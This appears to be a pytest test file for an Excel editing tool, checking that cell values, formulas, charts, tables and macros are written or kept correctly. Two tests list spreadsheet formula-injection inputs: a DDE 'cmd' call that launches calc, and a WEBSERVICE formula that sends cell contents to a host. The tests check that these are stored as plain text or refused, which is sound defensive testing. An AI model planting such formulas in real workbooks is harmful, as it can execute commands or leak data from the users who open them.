"""Writing into workbooks that exist: what is written, and that everything else stays or is spoken of."""

from __future__ import annotations

import datetime
import re
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from xlsxwriter.worksheet import Worksheet

from ot.errors import ToolError
from ot_packs.excel.creating import create_workbook
from ot_packs.excel.editing import Edit, Edited, edit_workbook, save_changed
from ot_packs.excel.sheet_changes import change_sheets
from ot_tools import excel
from tests.engine import open_engine
from tests.packs.answers import refusal_of, value_of
from tests.packs.excel.workbooks import changed, make, picture

Fill = Callable[[xlsxwriter.Workbook, Worksheet], object]


def edit(source: Path, **wanted: Any) -> tuple[Edited, Path]:
    target = source.with_name("edited.xlsx")
    options: dict[str, Any] = {
        "sheet": None,
        "cells": {},
        "rows": [],
        "start": None,
        "formulas": False,
        "add": False,
        "lossy": False,
    }
    return edit_workbook(source, target, Edit(**{**options, **wanted})), target


def read(path: Path, **window: Any) -> list[Any]:
    return excel.read(path=str(path), **window)["rows"]


def test_cells_are_written_and_the_others_stay(tmp_path: Path) -> None:
    source = make(tmp_path / "x.xlsx")

    edited, target = edit(source, cells={"B2": "new", "D4": 7})

    assert (edited["sheet"], edited["cells"], edited["lost"]) == ("Data", 2, [])
    assert read(target) == [
        ["a", "b", None, None],
        [1, "new", None, None],
        [2, 4, None, None],
        [3, 6, None, 7],
        [4, 8, None, None],
    ]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "#N/A", "=cmd|'/c calc'!A1", "\tx", "line\nline"])
def test_text_is_written_as_text(tmp_path: Path, value: str) -> None:
    _, target = edit(make(tmp_path / "x.xlsx"), cells={"C1": value})

    assert read(target, range="C1") == [[value]]
    assert excel.formulas(path=str(target))["total"] == 0


@pytest.mark.parametrize(
    ("value", "found"),
    [
        (3, 3),
        (1.5, 1.5),
        (Decimal("2.25"), 2.25),
        (True, True),
        (None, None),
        (datetime.date(2024, 5, 1), datetime.date(2024, 5, 1)),
        (datetime.datetime.fromisoformat("2024-05-01T12:30"), datetime.datetime.fromisoformat("2024-05-01T12:30")),
        (datetime.datetime.fromisoformat("2024-05-01T12:30Z"), datetime.datetime.fromisoformat("2024-05-01T12:30")),
        (datetime.time(12, 30), datetime.time(12, 30)),
        (datetime.timedelta(hours=30), datetime.timedelta(hours=30)),
        (datetime.date(1815, 6, 18), "1815-06-18"),
        (12345678901234567890, "12345678901234567890"),
        (float("nan"), "#NUM!"),
        (float("inf"), "#NUM!"),
    ],
    ids=str,
)
def test_values_are_written_as_what_they_are(tmp_path: Path, value: object, found: object) -> None:
    _, target = edit(make(tmp_path / "x.xlsx"), cells={"B2": value})

    assert read(target, range="B2") == [[found]]


def test_formulas_are_written_when_they_are_asked_for(tmp_path: Path) -> None:
    source = make(tmp_path / "x.xlsx")

    edited, target = edit(source, cells={"C1": "=SUM(A2:A5)", "C2": {"formula": "B2*2"}, "C3": "+1"}, formulas=True)

    listed = excel.formulas(path=str(target))["formulas"]
    assert [(each["cell"], each["formula"]) for each in listed] == [("C1", "=SUM(A2:A5)"), ("C2", "=B2*2")]
    assert read(target, range="C3") == [["+1"]]
    assert edited["uncalculated"] == 2


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://x/?"&A1)',
        "=hyperlink(A1)",
        "=cmd|' /C calc'!A0",
        "='[other.xlsx]Data'!A1",
        "=[1]Data!A1",
        "=_xlfn.IMAGE(A1)",
        "='\\\\server\\share\\x'!A1",
        '=IMPORTXML("a","b")',
    ],
)
def test_a_formula_that_reaches_outside_is_written_only_if_it_is_marked_itself(tmp_path: Path, formula: str) -> None:
    source = make(tmp_path / "x.xlsx")

    with pytest.raises(ToolError, match=r"Data!C1: .* would reach outside"):
        edit(source, cells={"C1": formula}, formulas=True)
    _, target = edit(source, cells={"C1": {"formula": formula}})

    assert excel.formulas(path=str(target))["formulas"][0]["formula"] == formula


@pytest.mark.parametrize(
    "formula", ['="a|b"', "=Table1[Col]*2", "=IF(A1>0,1,2)", "=SUM(Table1[[#All],[A]])", "='Data'!A1"]
)
def test_an_ordinary_formula_needs_no_mark(tmp_path: Path, formula: str) -> None:
    edited, _ = edit(make(tmp_path / "x.xlsx"), cells={"C1": formula}, formulas=True)

    assert edited["uncalculated"] == 1


def test_rows_are_appended_or_put_where_they_belong(tmp_path: Path) -> None:
    source = make(tmp_path / "x.xlsx")

    _, target = edit(source, rows=[[5, 10], {"b": 12}])
    assert read(target, range="A5:B7") == [[4, 8], [5, 10], [None, 12]]

    _, target = edit(source, rows=[["x", "y"]], start="C2")
    assert read(target, range="A2:D2") == [[1, 2, "x", "y"]]


def test_a_sheet_is_added_when_asked(tmp_path: Path) -> None:
    source = make(tmp_path / "x.xlsx")

    _, target = edit(source, sheet="New", rows=[[1]], add=True)

    assert read(target, sheet="New") == [[1]]
    with pytest.raises(ToolError, match="has no sheet 'New'; it has Data; add=True adds one"):
        edit(source, sheet="New", rows=[[1]])


def chart(kind: str) -> Fill:
    def fill(book: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        chart = book.add_chart({"type": kind})
        chart.add_series({"values": "=Data!$B$2:$B$5", "categories": "=Data!$A$2:$A$5", "name": "=Data!$B$1"})
        chart.set_title({"name": "Title"})
        sheet.insert_chart("D2", chart)

    return fill


@pytest.mark.parametrize(
    ("fill", "part"),
    [
        (chart("column"), "xl/charts/chart1.xml"),
        (chart("line"), "xl/charts/chart1.xml"),
        (lambda book, sheet: sheet.insert_image("D2", "x.png", picture()), "xl/media/image1.png"),
        (lambda book, sheet: sheet.write_comment("D2", "hello"), "comment"),
        (
            lambda book, sheet: sheet.add_table("A1:B5", {"columns": [{"header": "a"}, {"header": "b"}]}),
            "xl/tables/table1.xml",
        ),
    ],
    ids=["column chart", "line chart", "picture", "comment", "table"],
)
def test_what_the_library_keeps_is_kept(tmp_path: Path, fill: Fill, part: str) -> None:
    edited, target = edit(make(tmp_path / "x.xlsx", fill), cells={"A2": 9})

    assert edited["lost"] == []
    with zipfile.ZipFile(target) as archive:
        assert [name for name in archive.namelist() if part in name]


@pytest.mark.parametrize(
    "fill",
    [
        lambda book, sheet: sheet.conditional_format("A1:A5", {"type": "data_bar"}),
        lambda book, sheet: sheet.data_validation("A1", {"validate": "list", "source": ["a", "b"]}),
        lambda book, sheet: sheet.write_rich_string("D1", "a", book.add_format({"bold": True}), "b"),
        lambda book, sheet: sheet.write_url("D1", "https://example.com"),
        lambda book, sheet: [
            sheet.autofilter("A1:B5"),
            sheet.protect(),
            sheet.set_header("&Cx"),
            sheet.freeze_panes(1, 0),
        ],
        lambda book, sheet: [
            sheet.repeat_rows(0),
            sheet.set_landscape(),
            sheet.print_area("A1:B5"),
            sheet.set_column(0, 1, 30),
        ],
        lambda book, sheet: book.define_name("Name", "=Data!$A$1"),
    ],
    ids=["conditional format", "validation", "rich text", "link", "filter and header", "page", "name"],
)
def test_ordinary_things_are_kept_and_nothing_is_said(tmp_path: Path, fill: Fill) -> None:
    assert edit(make(tmp_path / "x.xlsx", fill), cells={"A2": 9})[0]["lost"] == []


LOSSES: dict[str, Fill] = {
    "sparklines": lambda book, sheet: sheet.add_sparkline("D2", {"range": "Data!A2:B2"}),
    "shapes": lambda book, sheet: sheet.insert_textbox("D2", "hello"),
    "newer conditional formats": lambda book, sheet: sheet.conditional_format(
        "A1:A5", {"type": "data_bar", "data_bar_2010": True}
    ),
    "form controls": lambda book, sheet: sheet.insert_button("D3", {"caption": "x"}),
    "dynamic arrays": lambda book, sheet: sheet.write_dynamic_array_formula("D1:D1", "=SORT(A2:A5)"),
    "pictures in headers": lambda book, sheet: sheet.set_header(
        "&L&G", {"image_left": "x.png", "image_data_left": picture()["image_data"]}
    ),
    "background pictures": lambda book, sheet: sheet.set_background(picture()["image_data"]),
    "details of charts": chart("area"),
    "check boxes": lambda book, sheet: sheet.insert_checkbox("D4", True),
}


@pytest.mark.filterwarnings("ignore:.*extension is not supported:UserWarning")
@pytest.mark.parametrize("lost", LOSSES)
def test_what_would_be_lost_is_refused_and_named(tmp_path: Path, lost: str) -> None:
    source = make(tmp_path / "x.xlsx", LOSSES[lost])

    with pytest.raises(ToolError, match=f"would lose .*{lost}.*lossy=True"):
        edit(source, cells={"A2": 9})
    assert not source.with_name("edited.xlsx").exists()
    edited, target = edit(source, cells={"A2": 9}, lossy=True)

    assert any(lost in name for name in edited["lost"])
    assert read(target, range="A2") == [[9]]


def test_parts_nobody_knows_are_counted_too(tmp_path: Path) -> None:
    path = tmp_path / "y.xlsx"
    changed(make(tmp_path / "x.xlsx"), path, lambda name, data: data)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/novelty/one.xml", "<a/>")

    with pytest.raises(ToolError, match="would lose the part xl/novelty"):
        edit(path, cells={"A2": 9})


def test_macros_survive(tmp_path: Path) -> None:
    macro = b"\xd0\xcf\x11\xe0" + bytes(range(256))
    (tmp_path / "vba.bin").write_bytes(macro)
    source = make(tmp_path / "x.xlsm", lambda book, sheet: book.add_vba_project(str(tmp_path / "vba.bin")))

    edited, target = edit(source, cells={"A2": 9})

    assert edited["lost"] == []
    with zipfile.ZipFile(target) as archive:
        assert archive.read("xl/vbaProject.bin") == macro


@pytest.mark.parametrize(
    ("wanted", "sentence"),
    [
        ({}, "nothing to write"),
        ({"cells": {"B": 1}}, "'B' is not a cell"),
        ({"cells": {"A1": [1]}}, "Data!A1: a cell cannot hold a list"),
        ({"cells": {"A1": {"x": 1}}}, "a dict in a cell is a formula"),
        ({"cells": {"A1": "x" * 40_000}}, "up to 32767 characters"),
        ({"rows": ["text"]}, "rows are lists or dicts"),
        ({"rows": [{"c": 1}]}, "no column 'c'; the columns are a, b"),
        ({"rows": [[1, 2]], "start": "XFD1"}, "outside of what a sheet can have"),
        ({"cells": {"E5": 1}}, "inside of the merged cells D4:E5"),
    ],
    ids=str,
)
def test_a_mistake_is_answered_with_a_sentence(tmp_path: Path, wanted: dict[str, Any], sentence: str) -> None:
    source = make(tmp_path / "x.xlsx", lambda book, sheet: sheet.merge_range("D4:E5", "merged"))

    with pytest.raises(ToolError, match=sentence):
        edit(source, **wanted)


def test_control_characters_do_not_break_the_file(tmp_path: Path) -> None:
    _, target = edit(make(tmp_path / "x.xlsx"), cells={"A1": "a\x00b\x0bc"})

    assert openpyxl.load_workbook(target)["Data"]["A1"].value == "a_x0000_b_x000B_c"


def fruit(path: Path, **sheet: Any) -> Path:
    """A workbook with a table, a chart of it, and a sheet that refers to it."""
    rows = [{"month": "Jan", "sales": 120}, {"month": "Feb", "sales": 150}]
    charts = [{"type": "column", "x": "month", "y": "sales"}, {"type": "line", "x": "month", "y": "sales"}]
    data = {"name": "My Data", "rows": rows, "table": True, "charts": charts, "formats": {"sales": "0.00"}, **sheet}
    total = {"name": "Total", "rows": [[{"formula": "=SUM('My Data'!B2:B3)"}, {"formula": '="My Data!" & A1'}]]}
    create_workbook(path, [data, total], formulas=False)
    return path


def references(path: Path) -> set[str]:
    with zipfile.ZipFile(path) as archive:
        texts = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/charts/chart")]
    return {reference for text in texts for reference in re.findall(r"<(?:c:)?f>([^<]*)</", text)}


def test_a_table_and_its_charts_grow_with_rows_below_it(tmp_path: Path) -> None:
    _, target = edit(fruit(tmp_path / "x.xlsx"), rows=[{"month": "Mar", "sales": 90}, ["Apr", 80]])

    sheet = openpyxl.load_workbook(target)["My Data"]
    [table] = sheet.tables.values()
    assert (table.ref, table.autoFilter.ref) == ("A1:B5", "A1:B5")
    assert references(target) == {"'My Data'!$B$1", "'My Data'!$A$2:$A$5", "'My Data'!$B$2:$B$5"}
    assert sheet["B5"].number_format == "0.00"


def test_cells_elsewhere_leave_a_table_as_it_is(tmp_path: Path) -> None:
    _, target = edit(fruit(tmp_path / "x.xlsx"), cells={"D4": 1, "A5": "a note"})

    [table] = openpyxl.load_workbook(target)["My Data"].tables.values()
    assert table.ref == "A1:B3"
    assert "'My Data'!$B$2:$B$3" in references(target)


async def test_sheets_are_renamed_added_and_deleted(tmp_path: Path) -> None:
    async with open_engine(tmp_path / "p") as app:
        fruit(tmp_path / "p" / "x.xlsx")
        renamed = await value_of(app, "excel.change_sheets(path='x.xlsx', rename={'my data': \"Ann's\"}, add=['New'])")
        found = await value_of(app, "[f['formula'] for f in excel.formulas(path='x.xlsx')['formulas']]")
        used = await refusal_of(app, "excel.change_sheets(path='x.xlsx', delete=[\"Ann's\"])")
        taken = await refusal_of(app, "excel.change_sheets(path='x.xlsx', add=['TOTAL'])")
        deleted = await value_of(app, "excel.change_sheets(path='x.xlsx', delete=['Total', \"Ann's\"])['sheets']")
        last = await refusal_of(app, "excel.change_sheets(path='x.xlsx', delete=['New'])")

    assert renamed["sheets"] == ["Ann's", "Total", "New"]
    assert found == ["=SUM('Ann''s'!B2:B3)", '="My Data!" & A1']
    assert "is still used elsewhere in the workbook" in used
    assert "already has a sheet 'TOTAL'" in taken
    assert deleted == ["New"]
    assert "the last sheet" in last


def test_charts_follow_a_new_name(tmp_path: Path) -> None:
    source, target = fruit(tmp_path / "x.xlsx"), tmp_path / "y.xlsx"
    save_changed(source, target, lambda book: change_sheets(book, rename={"My Data": "Data"}, add=[]), lossy=False)

    assert references(target) == {"'Data'!$B$1", "'Data'!$A$2:$A$3", "'Data'!$B$2:$B$3"}


async def test_cells_are_formatted(tmp_path: Path) -> None:
    wanted = {
        "1:1": {"bold": True, "fill": "#ffcc00", "align": "center", "border": True},
        "B2:B3": {"number": "#,##0", "color": "FF0000", "size": 14, "wrap": True, "width": 30},
    }
    async with open_engine(tmp_path / "p") as app:
        path = fruit(tmp_path / "p" / "x.xlsx")
        formatted = await value_of(app, f"excel.format(path='x.xlsx', sheet='My Data', formats={wanted!r})")
        wrong = await refusal_of(app, "excel.format(path='x.xlsx', formats={'A1': {'colour': 'red'}})")
        colour = await refusal_of(app, "excel.format(path='x.xlsx', formats={'A1': {'color': 'red'}})")

    sheet = openpyxl.load_workbook(path)["My Data"]
    first, second = sheet["A1"], sheet["B3"]
    assert (formatted["cells"], formatted["lost"]) == (4, [])
    assert (first.font.b, first.fill.fgColor.rgb, first.alignment.horizontal) == (True, "FFFFCC00", "center")
    assert (first.border.top.style, first.value) == ("thin", "month")
    assert (second.number_format, second.font.color.rgb, second.font.sz) == ("#,##0", "FFFF0000", 14)
    assert (second.alignment.wrap_text, sheet.column_dimensions["B"].width, second.value) == (True, 30, 150)
    assert "a format is a dict of number, bold" in wrong
    assert 'a color is written like "FF0000"' in colour


def test_rows_below_a_table_go_into_its_columns(tmp_path: Path) -> None:
    source = tmp_path / "x.xlsx"
    book = xlsxwriter.Workbook(str(source))
    sheet = book.add_worksheet()
    sheet.write("A1", "A report")
    sheet.add_table("C3:D4", {"data": [["pear", 2]], "columns": [{"header": "fruit"}, {"header": "count"}]})
    book.close()

    _, target = edit(source, rows=[{"count": 5, "fruit": "apple"}, ["fig", 7]])

    written = openpyxl.load_workbook(target).worksheets[0]
    assert [[cell.value for cell in row] for row in written["C3:D6"]] == [
        ["fruit", "count"],
        ["pear", 2],
        ["apple", 5],
        ["fig", 7],
    ]
    assert [table.ref for table in written.tables.values()] == ["C3:D6"]
